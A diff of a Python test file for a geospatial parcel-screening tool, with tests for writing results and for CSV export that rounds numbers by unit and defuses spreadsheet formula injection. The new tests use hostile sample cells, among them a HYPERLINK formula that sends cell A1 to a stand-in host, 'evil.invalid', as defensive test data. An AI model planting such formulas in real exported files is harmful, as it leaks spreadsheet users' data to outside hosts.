@@ -308,13 +308,17 @@ def _result(tmp_path, folder="in"):
 def test_result_write(tmp_path):
     res, d = _result(tmp_path)
     before = tree_hashes(d)
-    written = write_result(res, tmp_path / "out" / "run1")
+    written = write_result(res, tmp_path / "out" / "run1", findings="all")
     assert {"findings.geojson", "results.gpkg", "parcels.csv", "report.html", "map.html"} <= set(written)
     data = _strict_json((tmp_path / "out" / "run1" / "findings.geojson").read_text())
     assert [ft["properties"]["status"] for ft in data["features"]] == ["violation", "pass", "pass"]
+    # a screening's default: only what needs a person
+    write_result(res, tmp_path / "out" / "run2")
+    data = _strict_json((tmp_path / "out" / "run2" / "findings.geojson").read_text())
+    assert [ft["properties"]["status"] for ft in data["features"]] == ["violation"]
     # 200 ft x 200 ft = 40,000 sq ft = 0.9183 acres
     assert data["features"][0]["properties"]["measured"] == pytest.approx(40_000 / 43_560)
-    assert {n for n, _ in pyogrio.list_layers(written["results.gpkg"])} >= {"findings", "parcels"}
+    assert {n for n, _ in pyogrio.list_layers(written["results.gpkg"])} >= {"findings_polygon", "parcels"}
     assert tree_hashes(d) == before
 
 
@@ -324,7 +328,7 @@ def test_result_write_refuses_input_folder_collision(tmp_path):
     # make findings.geojson one of the inputs by registering it like a layer file
     res.layers.info["parcels"].path = str(d / "findings.geojson")
     before = tree_hashes(d)
-    with pytest.raises(OutputError, match="findings.geojson is one of the inputs"):
+    with pytest.raises(OutputError, match="is one of the inputs and lies inside --out"):
         write_result(res, d)
     assert tree_hashes(d) == before
     assert not (d / "results.gpkg").exists()  # nothing written before the refusal
@@ -336,3 +340,64 @@ def test_result_write_out_is_file(tmp_path):
     with pytest.raises(OutputError, match="town.gpkg is an existing file"):
         write_result(res, d / "town.gpkg")
     assert tree_hashes(d) == before
+
+
+# ------------------------------------------------------------------------------------------
+# CSV for spreadsheets: rounded numbers, no formulas
+
+def test_csv_rounds_by_unit_and_keeps_ids():
+    t = pd.DataFrame({"parcel_id": ["007", "P-1"], "area_acres": [0.918273645, 1.0], "sfha_share": [0.333333333, 1.0],
+                      "stream_distance_ft": [123.456789, np.nan], "sfha_acres_change": [-0.000123456, 0.0],
+                      "precip_in": [1.23456, 0.5], "water_bars": [3.0, 4.0], "n": [1, 2]})
+    out = writers.csv_ready(t)
+    assert out["parcel_id"].tolist() == ["007", "P-1"]  # ids unchanged (and not numbers)
+    assert out["area_acres"].tolist() == [0.9183, 1.0]  # acres: 4 decimals
+    assert out["sfha_share"].tolist() == [0.3333, 1.0]  # shares: 4
+    assert out["stream_distance_ft"].iloc[0] == 123.46 and np.isnan(out["stream_distance_ft"].iloc[1])  # feet: 2
+    assert out["sfha_acres_change"].tolist() == [-0.0001, 0.0]  # the unit word anywhere in the name
+    assert out["precip_in"].tolist() == [1.23, 0.5]
+    assert out["water_bars"].tolist() == [3.0, 4.0] and out["n"].tolist() == [1, 2]  # no unit: as they are
+
+
+def test_findings_csv_rounds_measured_by_its_unit(tmp_path):
+    f = _findings()
+    f.loc[:, "measured"] = 1 / 3
+    f.loc[:, "unit"] = ["acres", "ft", "count"][: len(f)] + [""] * max(0, len(f) - 3)
+    back = pd.read_csv(writers.write_csv(f, tmp_path / "findings.csv"), keep_default_na=False)
+    assert back["measured"].tolist()[:3] == [0.3333, 0.33, pytest.approx(1 / 3, abs=1e-15)]
+    assert "geometry" not in back.columns
+
+
+@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x.invalid\",\"Click\")", "+1+2", "-2+3", "@SUM(A1)",
+                                  "\t=1", "\r=1"])
+def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path, cell):
+    t = pd.DataFrame({"parcel_id": [cell, "P-2"], "note": ["ok", cell]})
+    back = pd.read_csv(writers.write_csv(t, tmp_path / "t.csv"), dtype=str, keep_default_na=False)
+    assert back["parcel_id"].tolist() == ["'" + cell, "P-2"]  # a CR inside a cell is quoted (CRLF rows)
+    assert back["note"].tolist() == ["ok", "'" + cell]
+
+
+def test_hostile_attribute_is_neutralised_end_to_end(tmp_path, runner):
+    from catalogue import flood_zones, parcels, write_gpkg
+
+    from geoconstraints.cli import main
+
+    p = parcels()
+    evil = '=HYPERLINK("http://evil.invalid/?"&A1,"Click me")'
+    p["parcel_id"] = [evil, "@SUM(1+1)", "P3"]
+    p["zoning"] = ["-1+1", "RA-1", "+cmd"]
+    gpkg = write_gpkg(tmp_path / "t.gpkg", {"parcels": p, "flood_zones": flood_zones()})
+    res = runner.invoke(main, ["screen", str(gpkg), "--out", str(tmp_path / "out"), "--findings", "all"])
+    assert res.exit_code == 0, res.output
+    out = tmp_path / "out"
+    parcels_csv = pd.read_csv(out / "parcels.csv", dtype=str, keep_default_na=False)
+    assert parcels_csv["parcel_id"].tolist() == ["'" + evil, "'@SUM(1+1)", "P3"]
+    assert parcels_csv["zoning_districts"].tolist() == ["'-1+1", "RA-1", "'+CMD"]  # zoning names upper-cased on loading
+    findings_csv = pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False)
+    assert ("'" + evil) in set(findings_csv["subject_id"]) and evil not in set(findings_csv["subject_id"])
+    text = (out / "parcels.csv").read_text("utf-8") + (out / "findings.csv").read_text("utf-8")
+    for line in text.splitlines():  # no cell anywhere starts a formula
+        for cell in line.split(","):
+            assert not cell.lstrip('"').startswith(("=", "+", "@")), line
+    # the GIS files keep the value as it is (they are not spreadsheets)
+    assert evil in set(pyogrio.read_dataframe(out / "results.gpkg", layer="parcels")["parcel_id"])
